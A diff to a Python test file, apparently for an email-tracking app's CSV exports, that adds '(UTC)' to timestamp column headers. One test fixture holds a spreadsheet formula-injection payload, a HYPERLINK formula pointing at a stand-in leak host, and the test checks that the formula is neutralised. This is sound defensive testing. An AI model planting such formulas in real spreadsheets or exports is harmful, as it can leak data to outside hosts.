@@ -376,8 +376,8 @@ def test_the_emails_csv_is_rfc_4180_utf8_with_formulas_neutralised(staff, data):
     assert response.content_type == "text/csv" and response.charset == "utf-8"
     assert response.headers["Content-Disposition"].startswith('attachment; filename="coretrack-emails-')
     assert response.body == (
-        '\ufeff"Subject","Sender","Sent at","Recipients","Delivered","Opened","Open rate (%)","Accesses",'
-        '"Last access"\r\n'
+        '\ufeff"Subject","Sender","Sent at (UTC)","Recipients","Delivered","Opened","Open rate (%)","Accesses",'
+        '"Last access (UTC)"\r\n'
         '"Spring launch","sam","2026-03-02 09:00:00","4","3","2","66.7","4","2026-03-04 08:00:00"\r\n'
         '"\'=HYPERLINK(""http://evil.test/?leak"",""Click"")","admin","2026-03-03 15:00:00","2","2","2","100.0","3",'
         '"2026-03-05 10:00:00"\r\n'
@@ -388,14 +388,15 @@ def test_the_emails_csv_is_rfc_4180_utf8_with_formulas_neutralised(staff, data):
 def test_the_csv_export_takes_the_same_filters_as_the_page(staff, data):
     body = staff.get("/reports/records.csv", params={"record_type": "account"}).body
     assert list(csv.reader(io.StringIO(body.decode("utf-8-sig")))) == [
-        ["Record", "Emails sent", "Opened", "Accesses", "Last access"],
+        ["Record", "Emails sent", "Opened", "Accesses", "Last access (UTC)"],
         ["Acme <Corp>", "2", "2", "5", "2026-03-05 09:30:00"],
         ["Globex", "1", "1", "2", "2026-03-05 09:00:00"],
     ]
     recipients = list(csv.reader(io.StringIO(
         staff.get("/reports/recipients.csv", params={"status": "failed"}).body.decode("utf-8-sig"))))
     assert recipients == [
-        ["Email", "Address", "Record type", "Related record", "Status", "Accesses", "First access", "Last access"],
+        ["Email", "Address", "Record type", "Related record", "Status", "Accesses", "First access (UTC)",
+         "Last access (UTC)"],
         ["Spring launch", "x@nowhere.test", "", "", "failed", "0", "", ""],
     ]
     activity = staff.get("/reports/activity.csv", params={**WEEK, "sender": "admin"}).body.decode("utf-8-sig")
